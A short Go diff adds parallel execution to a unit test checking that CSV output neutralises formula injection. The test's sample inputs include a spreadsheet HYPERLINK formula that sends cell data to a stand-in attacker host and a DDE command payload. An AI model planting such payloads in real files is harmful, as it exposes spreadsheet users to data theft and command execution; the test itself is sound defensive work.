@@ -11,6 +11,7 @@ import (
 // Issue 15: a report that starts like a formula is written as text, so it
 // does not run when the manager opens the CSV in a spreadsheet.
 func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	hostile := []string{
 		`=HYPERLINK("http://evil.example/?"&A1,"点击")`,
 		"+cmd|' /C calc'!A0",
